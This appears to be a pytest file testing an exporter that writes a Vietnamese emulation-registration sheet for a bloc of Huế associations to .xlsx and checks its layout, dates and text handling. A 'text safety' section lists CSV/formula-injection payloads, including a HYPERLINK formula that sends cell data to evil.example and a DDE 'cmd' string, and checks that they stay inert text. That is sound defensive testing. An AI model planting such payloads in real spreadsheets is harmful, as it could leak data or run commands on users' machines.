"""The registration sheet (Bản đăng ký thi đua, domain.md §4.1): written to .xlsx,
opened back with openpyxl, and checked cell by cell."""

from __future__ import annotations

import io
import unicodedata
import zipfile
from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from exports.registration_sheet import SheetRow, header_row_index, registration_sheet
from tests.samples import HUE_BLOC, HUE_UNITS

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
UTC = timezone.utc
PROVINCE = "tỉnh Thừa Thiên Huế"
GENERATED_AT = datetime(2025, 3, 31, 18, 5, tzinfo=UTC)   # 01/04/2025 01:05 in Huế
HEADERS = [
    "STT",
    "Tên đơn vị",
    "Danh hiệu tập thể đăng ký",
    "Hình thức khen thưởng đăng ký",
    "Cá nhân đăng ký (CSTĐ cơ sở, LĐTT: số lượng, họ tên)",
    "Nội dung, chỉ tiêu chính",
    "Ngày đăng ký",
    "Ghi chú",
]
TTLDXS = "Tập thể lao động xuất sắc"
TTLDTT = "Tập thể lao động tiên tiến"
CO_TINH = "Cờ thi đua của Ủy ban nhân dân tỉnh"
BK_UBND = "Bằng khen của Chủ tịch Ủy ban nhân dân tỉnh"
CSTD = "Chiến sĩ thi đua cơ sở"
LDTT = "Lao động tiên tiến"
LONG_TARGETS = ("- Hoàn thành 100% chỉ tiêu được giao; tổ chức hội thảo khoa học.\n" * 160)[:10_000]


def hue_rows() -> list[SheetRow]:
    """The 12 units of the Huế bloc, in the order of domain.md §6 A, with a mix of cases."""
    assert len(LONG_TARGETS) == 10_000
    registered = {
        0: datetime(2025, 3, 14, 17, 30, tzinfo=UTC),              # 15/03/2025 00:30 in Huế
        1: datetime(2025, 3, 10, 8, 0, tzinfo=TZ),
        2: datetime(2025, 3, 3, 9, 5, tzinfo=TZ),
        3: datetime(2025, 2, 28, 23, 59, tzinfo=TZ),
        4: datetime(2025, 3, 15, 1, 2, tzinfo=UTC),                # 08:02 local
        6: datetime(2025, 1, 5, 14, 0, tzinfo=TZ),
        7: datetime(2025, 3, 12, 10, 30, tzinfo=TZ),
        9: datetime(2025, 3, 31, 16, 59, tzinfo=UTC),              # 31/03/2025 23:59 local
        11: datetime(2025, 3, 20, 7, 15, tzinfo=TZ),
    }
    specs = {
        0: ([TTLDXS], [CO_TINH, BK_UBND],
            [(CSTD, 2, ["Nguyễn Văn A", "Trần Thị B"]), (LDTT, 15, [])],
            "Tổ chức 2 hội thảo khoa học;\nTư vấn, phản biện 5 đề án.", ""),
        1: ([TTLDXS], [BK_UBND], [(CSTD, 1, ["Lê Thị Hồng"])], "Xuất bản 4 số tạp chí Sông Hương.", ""),
        2: ([TTLDTT], [], [(LDTT, 6, [])], "Đón 3 đoàn hữu nghị.", ""),
        3: ([TTLDXS], [CO_TINH], [(CSTD, 3, ["Phạm Đức Anh", "Võ Thị Ánh", "Đặng Quốc Việt"])],
            "Hiến 12.000 đơn vị máu.", "Phó khối"),
        4: ([TTLDTT], [BK_UBND], [], "Dạy chữ nổi cho 40 hội viên.", ""),
        5: ([], [], [], "", "Chưa đăng ký"),
        6: ([TTLDXS], [], [(LDTT, 4, ["Huỳnh Thị Ngọc Ánh"])], "=HYPERLINK(\"http://x\")", ""),
        7: ([TTLDXS], [BK_UBND], [(CSTD, 1, ["Ngô Thị Thu Hà"]), (LDTT, 9, [])], LONG_TARGETS, ""),
        8: ([], [], [], "", "Đã rút đăng ký"),           # withdrawn: no date
        9: ([TTLDTT], [], [], "+84 hội viên mới\n@hoisu", "Mở lại ngày 25/03/2025"),
        10: ([], [], [], "", "Chưa đăng ký"),
        11: ([TTLDXS], [BK_UBND], [(LDTT, 2, ["Tôn Thất Bảo", "Ưng Thị Ý"])], "Khám, phát thuốc cho 2.000 lượt người.", ""),
    }
    rows = []
    for index, unit in enumerate(HUE_UNITS):
        collective, commendations, individuals, targets, note = specs[index]
        rows.append(SheetRow(unit=unit, collective=collective, commendations=commendations,
                             individuals=individuals, targets=targets,
                             registered_at=registered.get(index), note=note))
    return rows


def build(rows=None, **overrides) -> bytes:
    kwargs = dict(bloc_name=HUE_BLOC, year=2025, province=PROVINCE,
                  rows=hue_rows() if rows is None else rows, generated_at=GENERATED_AT, tz=TZ)
    kwargs.update(overrides)
    return registration_sheet(**kwargs)


def open_sheet(data: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Đăng ký thi đua"]
    return workbook["Đăng ký thi đua"]


def text(cell) -> str:
    return "" if cell.value is None else cell.value


def data_row(ws, number: int) -> list:
    return [c for c in ws[header_row_index() + number]][:8]


@pytest.fixture(scope="module")
def sheet():
    return open_sheet(build())


# --- layout --------------------------------------------------------------------------

def test_returns_an_xlsx_zip():
    data = build()
    assert data[:2] == b"PK"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "xl/workbook.xml" in archive.namelist()


def test_title_row_is_merged_bold_and_centred(sheet):
    title = sheet["A1"]
    assert title.value == "BẢN ĐĂNG KÝ THI ĐUA NĂM 2025"
    assert title.font.b is True
    assert title.font.name == "Times New Roman"
    assert title.alignment.horizontal == "center"
    merged = {str(r) for r in sheet.merged_cells.ranges}
    assert "A1:H1" in merged
    assert "A2:H2" in merged


def test_second_row_names_the_bloc_and_province_then_an_empty_row(sheet):
    assert sheet["A2"].value == f"{HUE_BLOC}, {PROVINCE}"
    assert all(c.value is None for c in sheet[3])


def test_second_row_without_province_is_the_bloc_name_only():
    ws = open_sheet(build(province=""))
    assert ws["A2"].value == HUE_BLOC


def test_header_row_has_exactly_the_vietnamese_headers(sheet):
    assert header_row_index() == 4
    header = sheet[header_row_index()]
    assert [c.value for c in header if c.value is not None] == HEADERS
    assert sheet.max_column == len(HEADERS)
    for cell in header:
        assert cell.font.b is True
        assert cell.font.name == "Times New Roman"
        assert cell.alignment.wrap_text is True
        for side in (cell.border.left, cell.border.right, cell.border.top, cell.border.bottom):
            assert side.style == "thin"


def test_freeze_panes_below_the_header(sheet):
    assert sheet.freeze_panes == f"A{header_row_index() + 1}"


def test_column_widths_are_set_and_sensible(sheet):
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFGH"}
    assert 3 < widths["A"] < 8                      # STT is narrow
    assert widths["B"] >= 25                        # unit names are long
    assert widths["F"] == max(widths.values())      # free-text targets get the most room
    assert widths["G"] >= len("15/03/2025 00:30")
    assert 150 <= sum(widths.values()) <= 260       # fits A4 landscape once scaled to width


def test_page_setup_is_a4_landscape_fit_to_width(sheet):
    assert sheet.page_setup.orientation == "landscape"
    assert int(sheet.page_setup.paperSize) == 9            # A4
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert int(sheet.page_setup.fitToWidth) == 1
    assert int(sheet.page_setup.fitToHeight) == 0
    assert sheet.print_title_rows == "$4:$4"


# --- rows ----------------------------------------------------------------------------

EXPECTED = [
    # (collective, commendations, individuals, date, note)
    (TTLDXS, f"{CO_TINH}\n{BK_UBND}",
     "Chiến sĩ thi đua cơ sở: 2 (Nguyễn Văn A, Trần Thị B)\nLao động tiên tiến: 15",
     "15/03/2025 00:30", ""),
    (TTLDXS, BK_UBND, "Chiến sĩ thi đua cơ sở: 1 (Lê Thị Hồng)", "10/03/2025 08:00", ""),
    (TTLDTT, "", "Lao động tiên tiến: 6", "03/03/2025 09:05", ""),
    (TTLDXS, CO_TINH, "Chiến sĩ thi đua cơ sở: 3 (Phạm Đức Anh, Võ Thị Ánh, Đặng Quốc Việt)",
     "28/02/2025 23:59", "Phó khối"),
    (TTLDTT, BK_UBND, "", "15/03/2025 08:02", ""),
    ("", "", "", "", "Chưa đăng ký"),
    (TTLDXS, "", "Lao động tiên tiến: 4 (Huỳnh Thị Ngọc Ánh)", "05/01/2025 14:00", ""),
    (TTLDXS, BK_UBND, "Chiến sĩ thi đua cơ sở: 1 (Ngô Thị Thu Hà)\nLao động tiên tiến: 9",
     "12/03/2025 10:30", ""),
    ("", "", "", "", "Đã rút đăng ký"),
    (TTLDTT, "", "", "31/03/2025 23:59", "Mở lại ngày 25/03/2025"),
    ("", "", "", "", "Chưa đăng ký"),
    (TTLDXS, BK_UBND, "Lao động tiên tiến: 2 (Tôn Thất Bảo, Ưng Thị Ý)", "20/03/2025 07:15", ""),
]


def test_one_row_per_unit_in_the_order_given_with_every_cell(sheet):
    rows = hue_rows()
    assert len(rows) == len(EXPECTED) == 12
    for number, (row, expected) in enumerate(zip(rows, EXPECTED), start=1):
        cells = data_row(sheet, number)
        collective, commendations, individuals, date, note = expected
        assert cells[0].value == number
        assert cells[0].data_type == "n"
        assert cells[1].value == HUE_UNITS[number - 1]
        assert text(cells[2]) == collective
        assert text(cells[3]) == commendations
        assert text(cells[4]) == individuals
        assert text(cells[5]) == row.targets
        assert text(cells[6]) == date
        assert text(cells[7]) == note
    # Nothing else in the table: the row after the last unit is empty.
    assert all(c.value is None for c in sheet[header_row_index() + 13])


def test_every_table_cell_is_bordered_wrapped_and_in_times_new_roman(sheet):
    for r in range(header_row_index(), header_row_index() + 13):
        for cell in sheet[r][:8]:
            assert cell.font.name == "Times New Roman", cell.coordinate
            assert cell.alignment.wrap_text is True, cell.coordinate
            assert cell.border.left.style == "thin", cell.coordinate
            assert cell.border.right.style == "thin", cell.coordinate
            assert cell.border.top.style == "thin", cell.coordinate
            assert cell.border.bottom.style == "thin", cell.coordinate


def test_rows_with_several_lines_are_taller_than_single_line_rows(sheet):
    h = header_row_index()
    one_line = sheet.row_dimensions[h + 5].height     # Hội Người mù
    several = sheet.row_dimensions[h + 1].height      # two commendations, two individual lines
    long_text = sheet.row_dimensions[h + 8].height    # 10,000-character targets
    assert one_line < several < long_text <= 409


def test_date_is_local_vietnamese_time_and_empty_when_not_registered(sheet):
    h = header_row_index()
    # 2025-03-14 17:30 UTC is already the 15th in Huế (UTC+7).
    assert sheet.cell(row=h + 1, column=7).value == "15/03/2025 00:30"
    assert sheet.cell(row=h + 1, column=7).data_type == "s"
    assert sheet.cell(row=h + 6, column=7).value is None       # chưa đăng ký
    assert sheet.cell(row=h + 9, column=7).value is None       # đã rút đăng ký


def test_date_follows_the_tz_argument():
    row = SheetRow("Hội Luật gia", [], [], [], "", datetime(2025, 3, 14, 17, 30, tzinfo=UTC), "")
    ws = open_sheet(build(rows=[row], tz=ZoneInfo("UTC"),
                          generated_at=datetime(2025, 3, 14, 23, 0, tzinfo=UTC)))
    assert ws.cell(row=header_row_index() + 1, column=7).value == "14/03/2025 17:30"
    assert any(c.value == "Lập ngày 14/03/2025" for c in ws[header_row_index() + 3])


def test_footer_shows_the_generation_date_in_tz_after_the_table(sheet):
    footer_row = header_row_index() + 12 + 2      # one empty row after the 12 units
    assert all(c.value is None for c in sheet[footer_row - 1])
    footer = sheet.cell(row=footer_row, column=1)
    assert footer.value == "Lập ngày 01/04/2025"   # 2025-03-31 18:05 UTC
    assert footer.font.name == "Times New Roman"
    assert sheet.max_row == footer_row


def test_empty_bloc_still_has_title_header_and_footer():
    ws = open_sheet(build(rows=[]))
    assert ws["A1"].value == "BẢN ĐĂNG KÝ THI ĐUA NĂM 2025"
    assert [c.value for c in ws[header_row_index()]] == HEADERS
    assert ws.cell(row=header_row_index() + 2, column=1).value == "Lập ngày 01/04/2025"


def test_naive_datetimes_are_refused():
    row = SheetRow("Hội Luật gia", [], [], [], "", datetime(2025, 3, 14, 17, 30), "")
    with pytest.raises(ValueError):
        build(rows=[row])
    with pytest.raises(ValueError):
        build(rows=[], generated_at=datetime(2025, 3, 31, 8, 0))


# --- text safety ---------------------------------------------------------------------

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "=1+1",
]


def test_values_that_look_like_formulas_stay_text():
    rows = [SheetRow(unit=value, collective=[value], commendations=[], individuals=[],
                     targets=value, registered_at=None, note=value) for value in INJECTIONS]
    data = build(rows=rows)
    ws = open_sheet(data)
    for number, value in enumerate(INJECTIONS, start=1):
        cells = data_row(ws, number)
        for cell in (cells[1], cells[2], cells[5], cells[7]):
            assert cell.data_type == "s", cell.coordinate
            assert cell.value == value, cell.coordinate
            assert cell.quotePrefix is True, cell.coordinate
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml
    # openpyxl, asked to compute nothing, still sees no formula anywhere.
    formulas = openpyxl.load_workbook(io.BytesIO(data), data_only=False).active
    assert not any(c.data_type == "f" for row in formulas.iter_rows() for c in row)


def test_ordinary_text_gets_no_quote_prefix(sheet):
    assert sheet.cell(row=header_row_index() + 1, column=2).quotePrefix is False


def test_ten_thousand_character_targets_are_kept_whole(sheet):
    cell = sheet.cell(row=header_row_index() + 8, column=6)
    assert len(cell.value) == 10_000
    assert cell.value == LONG_TARGETS
    assert cell.value.count("\n") == LONG_TARGETS.count("\n")


def test_text_beyond_the_excel_limit_is_truncated_with_an_ellipsis():
    long = "Đ" * 40_000
    ws = open_sheet(build(rows=[SheetRow("Hội Nhà báo", [], [], [], long, None, "")]))
    value = ws.cell(row=header_row_index() + 1, column=6).value
    assert len(value) == 32_767
    assert value.endswith("…")
    assert value[:-1] == "Đ" * 32_766


def test_truncation_counts_utf16_units_and_never_splits_a_character():
    long = "🏆" * 20_000       # each is two UTF-16 units in Excel
    ws = open_sheet(build(rows=[SheetRow("Hội Nhà báo", [], [], [], long, None, "")]))
    value = ws.cell(row=header_row_index() + 1, column=6).value
    assert value.endswith("…")
    assert value[:-1] == "🏆" * 16_383
    assert len(value.encode("utf-16-le")) // 2 <= 32_767


def test_exactly_the_limit_is_not_truncated():
    exact = "a" * 32_767
    ws = open_sheet(build(rows=[SheetRow("Hội Nhà báo", [], [], [], exact, None, "")]))
    assert ws.cell(row=header_row_index() + 1, column=6).value == exact


def test_control_characters_are_removed_but_newlines_and_tabs_kept():
    row = SheetRow(unit="Hội\x00 Người\x07 mù\x1b", collective=[], commendations=[],
                   individuals=[], targets="Dòng 1\r\nDòng 2\x0b\tcột\x0c\rDòng 3\ufffe",
                   registered_at=None, note="Ghi\x08 chú")
    ws = open_sheet(build(rows=[row], bloc_name="Khối\x01 thi đua"))
    cells = data_row(ws, 1)
    assert cells[1].value == "Hội Người mù"
    assert cells[5].value == "Dòng 1\nDòng 2\tcột\nDòng 3"
    assert cells[7].value == "Ghi chú"
    assert ws["A2"].value == f"Khối thi đua, {PROVINCE}"


def test_vietnamese_diacritics_survive_the_round_trip(sheet):
    names = [sheet.cell(row=header_row_index() + n, column=2).value for n in range(1, 13)]
    assert names == HUE_UNITS
    assert "Hội Người khuyết tật – Bảo trợ người khuyết tật và trẻ mồ côi" in names
    assert "Hội Đông y" in names
    assert "Đặng Quốc Việt" in sheet.cell(row=header_row_index() + 4, column=5).value
    assert "Ưng Thị Ý" in sheet.cell(row=header_row_index() + 12, column=5).value
    for name in names:
        assert unicodedata.is_normalized("NFC", name)


def test_decomposed_input_is_written_in_nfc():
    decomposed = unicodedata.normalize("NFD", "Hội Khuyến học")
    assert decomposed != "Hội Khuyến học"
    ws = open_sheet(build(rows=[SheetRow(decomposed, [], [], [], "", None, "")]))
    assert ws.cell(row=header_row_index() + 1, column=2).value == "Hội Khuyến học"


def test_output_does_not_depend_on_the_order_of_calls():
    first = open_sheet(build())
    build(rows=[])
    second = open_sheet(build())
    for r in range(1, first.max_row + 1):
        assert [c.value for c in first[r]] == [c.value for c in second[r]]


def test_registered_at_in_another_offset_is_converted():
    at = datetime(2025, 3, 15, 2, 30, tzinfo=timezone(timedelta(hours=9)))   # Tokyo time
    ws = open_sheet(build(rows=[SheetRow("Hội Luật gia", [], [], [], "", at, "")]))
    assert ws.cell(row=header_row_index() + 1, column=7).value == "15/03/2025 00:30"
